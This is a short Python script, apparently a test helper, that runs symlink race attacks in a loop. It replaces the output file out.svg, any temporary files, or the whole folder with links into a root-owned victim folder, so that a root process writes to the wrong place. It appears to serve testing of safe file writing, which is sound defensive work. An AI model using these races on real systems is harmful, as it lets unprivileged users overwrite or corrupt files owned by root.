"""Tries to make root's output go elsewhere: ``hostile_folder.py ATTACK FOLDER VICTIM``.

FOLDER belongs to the user who runs this. VICTIM is a folder of root's, with a file out.svg in it. The
program says "ready" and goes on until it is killed.
"""

from __future__ import annotations

import os
import sys
from contextlib import suppress
from pathlib import Path

NAME = "out.svg"


def link_at_name(folder: Path, victim: Path) -> None:
    """Makes a link at the output's name, over and over."""
    with suppress(OSError):
        (folder / NAME).unlink()
    with suppress(OSError):
        (folder / NAME).symlink_to(victim / NAME)


def link_for_temporary(folder: Path, victim: Path) -> None:
    """Puts a link in the place of every other file that is there, as soon as it is there."""
    for name in os.listdir(folder):
        if name != NAME and not (folder / name).is_symlink():
            with suppress(OSError):
                (folder / name).unlink()
                (folder / name).symlink_to(victim / NAME)


def link_for_folder(folder: Path, victim: Path) -> None:
    """Puts a link in the place of the folder for a moment."""
    moved = folder.with_name("moved")
    with suppress(OSError):
        folder.rename(moved)
        folder.symlink_to(victim)
        folder.unlink()
        moved.rename(folder)


def main() -> None:
    attack = {each.__name__: each for each in (link_at_name, link_for_temporary, link_for_folder)}[
        sys.argv[1]
    ]
    folder, victim = map(Path, sys.argv[2:])
    print("ready", flush=True)
    while True:
        attack(folder, victim)


if __name__ == "__main__":
    main()
